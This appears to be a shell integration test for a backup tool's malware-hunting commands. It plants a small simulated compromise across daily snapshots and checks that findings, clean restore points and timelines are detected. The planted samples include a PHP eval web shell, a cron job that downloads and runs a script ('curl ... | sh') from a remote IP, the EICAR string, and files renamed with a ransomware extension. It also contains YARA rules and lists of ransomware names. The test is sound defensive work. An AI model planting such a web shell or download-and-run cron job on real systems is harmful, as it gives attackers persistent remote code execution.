# hunt, findings, clean-point, timeline on a small server over four days:
# day 1 baseline, day 2 quiet, day 3 a PHP web shell and a cron job, day 4
# the EICAR test file and a document renamed with a ransomware extension.
set -u
. "${CR_TESTLIB:?}"

export CLEANROOM_REPO=$SCRATCH/vault
P=$(pwd -P)
S=$P/sys # the system root of every snapshot (the single path backed up)

# Rules of our own, so the test does not depend on the names of the shipped
# starter pack (hunt_builtin.sh checks that one).
mkdir -p rules/yara
cat > rules/yara/test.yar <<'EOF'
rule test_php_webshell
{
    meta:
        severity = "high"
        category = "malware"
        description = "PHP code that evaluates request data (web shell)"
    strings:
        $e = /eval\s*\(\s*\$_(POST|GET|REQUEST)/
    condition:
        $e
}

rule test_eicar
{
    meta:
        severity = "critical"
        description = "EICAR anti-virus test file"
    strings:
        $e = "EICAR-STANDARD-ANTIVIRUS-TEST-FILE"
    condition:
        $e
}
EOF
printf '# test list\nlockbit\n.wncry\n' > rules/ransomware-extensions.txt
printf '# test list\nREADME-DECRYPT.txt\nHOW_TO_RECOVER*.html\n' > rules/ransom-notes.txt
export CLEANROOM_RULES=$P/rules

expect_exit 0 cr init --kdf interactive

# Day 1: an ordinary small server.
mkdir -p sys/etc/cron.d sys/var/www/html sys/var/log sys/srv/docs sys/tmp
printf 'root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n' \
    > sys/etc/passwd
printf 'SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n' > sys/etc/crontab
printf '<?php echo "Hello, world"; ?>\n' > sys/var/www/html/index.php
printf 'boot\n' > sys/var/log/syslog
for i in $(seq 1 60); do
    printf 'Minutes of meeting %d: nothing to report.\n' "$i" > "sys/srv/docs/minutes-$i.txt"
done
printf 'Dear colleague, the budget for next year is attached.\n' > sys/srv/docs/letter.docx
expect_exit 0 cr backup --source web --time 2026-11-01 sys
expect_exit 0 cr snapshots --json
day() { python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))[int(sys.argv[2])]["id"])' "$CR_OUT" "$1"; }
D1=$(day 0)

# Day 2: logs grow, nothing else.
printf 'cron ran\n' >> sys/var/log/syslog
expect_exit 0 cr backup --source web --time 2026-11-02 sys

# Day 3: a web shell and an unowned cron job.
printf "<?php eval(\$_POST['x']); ?>\n" > sys/var/www/html/up.php
printf '* * * * * root curl -s http://203.0.113.9/x | sh\n' > sys/etc/cron.d/sync
expect_exit 0 cr backup --source web --time 2026-11-03 sys

# Day 4: the EICAR test file; a document encrypted and renamed by ransomware.
printf 'X5O!P%%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' > sys/tmp/eicar.com
head -c 8192 /dev/urandom > sys/srv/docs/letter.docx.lockbit && rm sys/srv/docs/letter.docx
expect_exit 0 cr backup --source web --time 2026-11-04 sys

# A second, clean source.
mkdir -p db/etc && printf 'port = 5432\n' > db/etc/db.conf
expect_exit 0 cr backup --source db --time 2026-11-04T12:00:00Z db

expect_exit 0 cr snapshots --json
D1=$(day 0) D2=$(day 1) D3=$(day 2) D4=$(day 3)
DB=$(day 4)

# Before any hunt, nothing is known: said so, not "clean".
expect_exit 0 cr findings
assert_grep "5 snapshot\(s\) have never been hunted" "$CR_ERR" "findings warns about unhunted"
expect_exit 0 cr clean-point --source web
assert_grep "^web: not hunted yet \(4 snapshot\(s\)\)" "$CR_OUT" "clean-point before the hunt"
pass "before the hunt"

# ---------------------------------------------------------------- hunt
expect_exit 0 cr hunt
assert_grep "^hunt done in .*: 5 snapshot\(s\) hunted, 0 already current \(5 in all\)" "$CR_OUT" \
    "hunt summary counts"
assert_grep "contents scanned: [1-9]" "$CR_OUT" "contents were scanned"
assert_grep "rules: 2 YARA rule\(s\)" "$CR_OUT" "our two rules"
assert_grep "^  web: clean restore point ${D2:0:8} \(2026-11-02T00:00:00Z\); first compromised ${D3:0:8} \(2026-11-03T00:00:00Z\)$" \
    "$CR_OUT" "web clean point line"
assert_grep "^  db: clean restore point ${DB:0:8} \(2026-11-04T12:00:00Z\), the newest; no finding at or above high$" \
    "$CR_OUT" "db clean point line"
assert_grep "^hint: .*clean-point" "$CR_ERR" "hint names clean-point"
pass "hunt"

# Hunting again is nearly free: every snapshot is current, nothing is read.
expect_exit 0 cr hunt --json
python3 - "$CR_OUT" "$P/rules" <<'PY' || fail "second hunt is cheap"
import json, sys
h = json.load(open(sys.argv[1]))
assert h["snapshots"] == 5 and h["snapshots_current"] == 5 and h["snapshots_hunted"] == 0, h
assert h["contents_scanned"] == 0 and h["bytes_scanned"] == 0, h
assert h["rules_dir"] == sys.argv[2], h["rules_dir"]
assert h["yara_rules"] == 2 and h["errors"] == 0 and h["warnings"] == [], h
assert h["new_findings"]["critical"] >= 1 and h["new_findings"]["high"] >= 2, h["new_findings"]
cp = {c["source"]: c for c in h["clean_points"]}
assert cp["db"]["compromised"] is False and cp["web"]["compromised"] is True, cp
PY
expect_exit 0 cr hunt -q
assert_grep "^  web: clean restore point" "$CR_OUT" "quiet hunt keeps the clean points"
grep -q "^hunt done" "$CR_OUT" && fail "quiet hunt prints no counts"
pass "hunt again: all current, nothing scanned"

# --fail-on: the newest snapshot of web is compromised; db is clean.
expect_exit 9 cr hunt --fail-on high
assert_grep "newest snapshot of a source holds a finding at or above high" "$CR_ERR" "--fail-on message"
expect_exit 0 cr hunt --source db --fail-on low
expect_exit 2 cr hunt --fail-on severe
pass "hunt --fail-on"

# ---------------------------------------------------------------- findings
expect_exit 0 cr findings --json
python3 - "$CR_OUT" "$S" "$D1" "$D2" "$D3" "$D4" <<'PY' || fail "findings --json"
import json, sys
doc = json.load(open(sys.argv[1]))
S, d1, d2, d3, d4 = sys.argv[2:]
assert doc["min_severity"] == "low" and doc["unhunted"] == 0, doc
F = doc["findings"]
keys = {"snapshot", "source", "time", "path", "severity", "category", "indicator", "detail",
        "evidence", "content", "first_seen", "first_seen_time"}
for f in F:
    assert set(f) == keys, set(f) ^ keys
    assert f["severity"] != "info", f
def at(snap, path, ind=None):
    return [f for f in F if f["snapshot"] == snap and f["path"] == path
            and (ind is None or f["indicator"] == ind)]
assert not [f for f in F if f["snapshot"] in (d1, d2)], "nothing at or above low on days 1-2"
shell = at(d3, S + "/var/www/html/up.php", "yara:test_php_webshell")
assert shell and shell[0]["severity"] == "high" and shell[0]["category"] == "malware", shell
assert shell[0]["first_seen"] == d3 and shell[0]["time"] == "2026-11-03T00:00:00Z", shell
cron = at(d3, S + "/etc/cron.d/sync")
assert cron and max(c["severity"] in ("high", "critical") for c in cron), cron
assert cron[0]["category"] == "persistence", cron
# Day 4 still holds both, first seen on day 3, and adds the EICAR file and the rename.
carried = at(d4, S + "/var/www/html/up.php", "yara:test_php_webshell")
assert carried and carried[0]["first_seen"] == d3, carried
assert carried[0]["first_seen_time"] == "2026-11-03T00:00:00Z", carried
eicar = at(d4, S + "/tmp/eicar.com", "yara:test_eicar")
assert eicar and eicar[0]["severity"] == "critical" and eicar[0]["first_seen"] == d4, eicar
rw = at(d4, S + "/srv/docs/letter.docx.lockbit", "ransomware:extension")
assert rw and rw[0]["severity"] in ("high", "critical") and rw[0]["category"] == "ransomware", rw
# Ordered by snapshot time, then severity.
order = {"info": 0, "low": 1, "medium": 2, "high": 3, "critical": 4}
snaps = [f["time"] for f in F]
assert snaps == sorted(snaps), "by snapshot time"
for a, b in zip(F, F[1:]):
    if a["snapshot"] == b["snapshot"]:
        assert order[a["severity"]] >= order[b["severity"]], (a, b)
PY

expect_exit 0 cr findings --source web
assert_grep "^${D3:0:8}  2026-11-03T00:00:00Z  web: [0-9]+ finding\(s\)$" "$CR_OUT" "group header"
assert_grep "^  high      malware      $S/var/www/html/up.php  yara:test_php_webshell  .*PHP code that evaluates request data" \
    "$CR_OUT" "finding line"
assert_grep "^  high      malware      $S/var/www/html/up.php  yara:test_php_webshell .*\(first seen in ${D3:0:8}, 2026-11-03T00:00:00Z\)$" \
    "$CR_OUT" "carried finding says where it was first seen"
assert_grep "^  critical  malware      $S/tmp/eicar.com  yara:test_eicar" "$CR_OUT" "EICAR line"
assert_grep "^[0-9]+ finding\(s\) at or above low in 2 snapshot\(s\): .*critical" "$CR_OUT" "summary"
grep -q "${D1:0:8}" "$CR_OUT" && fail "a quiet snapshot has no group"
expect_exit 0 cr findings --snapshot "${D4:0:8}" --min-severity critical --json
python3 - "$CR_OUT" "$D4" <<'PY' || fail "findings --snapshot --min-severity"
import json, sys
F = json.load(open(sys.argv[1]))["findings"]
assert F and all(f["snapshot"] == sys.argv[2] and f["severity"] == "critical" for f in F), F
PY
expect_exit 0 cr findings --snapshot "${D2:0:8}"
assert_grep "^no finding at or above low in snapshot ${D2:0:8}$" "$CR_OUT" "quiet snapshot"
expect_exit 0 cr findings --source db --min-severity info --json
expect_exit 7 cr findings --source nosuch
assert_grep "no snapshot of source 'nosuch' in this vault \(sources: web, db\)" "$CR_ERR" \
    "unknown source names the real ones"
expect_exit 7 cr findings --snapshot 0000
expect_exit 2 cr findings --source db --snapshot "${D4:0:8}"
assert_grep "snapshot ${D4:0:8} is of source 'web', not 'db'" "$CR_ERR" "source and snapshot disagree"
expect_exit 2 cr findings --min-severity bad
pass "findings"

# ---------------------------------------------------------------- clean-point
expect_exit 0 cr clean-point --source web
assert_grep "^web: clean restore point ${D2:0:8} \(2026-11-02T00:00:00Z\); first compromised ${D3:0:8}" \
    "$CR_OUT" "clean-point line"
assert_grep "^  ${D3:0:8} is compromised because of [0-9]+ finding\(s\) at or above high:$" "$CR_OUT" \
    "reasons header"
assert_grep "^    high      malware      $S/var/www/html/up.php  yara:test_php_webshell" "$CR_OUT" \
    "web shell among the reasons"
assert_grep "^  restore the clean point with: cleanroom restore ${D2:0:8} --target DIR$" "$CR_OUT" \
    "exact restore command"
expect_exit 0 cr clean-point --json
python3 - "$CR_OUT" "$D2" "$D3" "$DB" "$S" <<'PY' || fail "clean-point --json"
import json, sys
cps = json.load(open(sys.argv[1]))
d2, d3, db, S = sys.argv[2:]
by = {c["source"]: c for c in cps}
assert set(by) == {"web", "db"}, by.keys()
w = by["web"]
assert w["clean_snapshot"] == d2 and w["clean_time"] == "2026-11-02T00:00:00Z", w
assert w["first_compromised_snapshot"] == d3 and w["compromised"] is True, w
assert w["first_compromised_time"] == "2026-11-03T00:00:00Z", w
assert w["snapshots"] == 4 and w["unhunted"] == 0 and w["min_severity"] == "high", w
paths = {r["path"] for r in w["reasons"]}
assert S + "/var/www/html/up.php" in paths and S + "/etc/cron.d/sync" in paths, paths
assert all(r["snapshot"] == d3 for r in w["reasons"]), w["reasons"]
d = by["db"]
assert d["clean_snapshot"] == db and d["compromised"] is False, d
assert d["first_compromised_snapshot"] is None and d["reasons"] == [], d
PY
# A stricter threshold moves the first compromised snapshot to day 4 (EICAR, critical).
expect_exit 0 cr clean-point --source web --min-severity critical --json
python3 - "$CR_OUT" "$D3" "$D4" <<'PY' || fail "clean-point --min-severity critical"
import json, sys
c = json.load(open(sys.argv[1]))[0]
assert c["clean_snapshot"] == sys.argv[2] and c["first_compromised_snapshot"] == sys.argv[3], c
PY
expect_exit 7 cr clean-point --source nosuch
pass "clean-point"

# ---------------------------------------------------------------- timeline
expect_exit 0 cr timeline --source web
assert_grep "^timeline of web \(findings at or above low\)$" "$CR_OUT" "timeline title"
assert_grep "^2026-11-01T00:00:00Z  ${D1:0:8}  baseline: 0 finding\(s\)$" "$CR_OUT" "baseline"
assert_grep "^2026-11-02T00:00:00Z  ${D2:0:8}  nothing new$" "$CR_OUT" "quiet day"
assert_grep "^2026-11-03T00:00:00Z  ${D3:0:8}  [0-9]+ appeared, 0 gone$" "$CR_OUT" "day 3 header"
assert_grep "^  \+ high      malware      $S/var/www/html/up.php  yara:test_php_webshell" "$CR_OUT" \
    "web shell appeared"
assert_grep "^  \+ critical  malware      $S/tmp/eicar.com  yara:test_eicar" "$CR_OUT" "EICAR appeared"
grep -q "^  + .*up.php.*2026-11-04" "$CR_OUT" && fail "the web shell appears once"
assert_grep "^First sign: 2026-11-03T00:00:00Z .* $S/(var/www/html/up.php|etc/cron.d/sync) \((high|critical)\)$" \
    "$CR_OUT" "first sign"
pass "timeline text"

# Day 5: the web shell is removed; many files are renamed (grouped in one line).
rm sys/var/www/html/up.php
for i in $(seq 1 8); do
    head -c 4096 /dev/urandom > "sys/srv/docs/minutes-$i.txt.lockbit" && rm "sys/srv/docs/minutes-$i.txt"
done
expect_exit 0 cr backup --source web --time 2026-11-05 sys
D5=$(cr snapshots --source web --json | python3 -c 'import json,sys; print(json.load(sys.stdin)[-1]["id"])')
expect_exit 0 cr timeline --source web
assert_grep "^2026-11-05T00:00:00Z  ${D5:0:8}  not hunted$" "$CR_OUT" "unhunted snapshot in the story"
assert_grep "1 snapshot\(s\) of this source were never hunted" "$CR_ERR" "timeline warns"
expect_exit 0 cr hunt --source web
assert_grep "1 snapshot\(s\) hunted, 4 already current" "$CR_OUT" "only the new snapshot is hunted"
expect_exit 0 cr timeline --source web
assert_grep "^  - high      malware      $S/var/www/html/up.php  yara:test_php_webshell" "$CR_OUT" \
    "web shell gone"
assert_grep "^  \+ (high|critical) +ransomware   ransomware:extension on 8 files, e.g. $S/srv/docs/minutes-" \
    "$CR_OUT" "renames grouped"
expect_exit 0 cr timeline --source web --json
python3 - "$CR_OUT" "$D1" "$D3" "$D5" "$S" <<'PY' || fail "timeline --json"
import json, sys
t = json.load(open(sys.argv[1]))
d1, d3, d5, S = sys.argv[2:]
assert t["source"] == "web" and t["min_severity"] == "low", t
sn = t["snapshots"]
assert [s["snapshot"] for s in sn][0] == d1 and sn[0]["baseline"] and not sn[1]["baseline"], sn
assert all(s["hunted"] for s in sn), sn
assert sn[1]["appeared"] == [] and sn[1]["gone"] == [], sn[1]
last = [s for s in sn if s["snapshot"] == d5][0]
assert any(g["path"] == S + "/var/www/html/up.php" for g in last["gone"]), last["gone"]
assert sum(a["indicator"] == "ransomware:extension" for a in last["appeared"]) == 8, last
assert t["first_sign"]["snapshot"] == d3, t["first_sign"]
PY
expect_exit 2 cr timeline
assert_grep "source NAME is required" "$CR_ERR" "timeline needs --source"
expect_exit 7 cr timeline --source nosuch
pass "timeline"
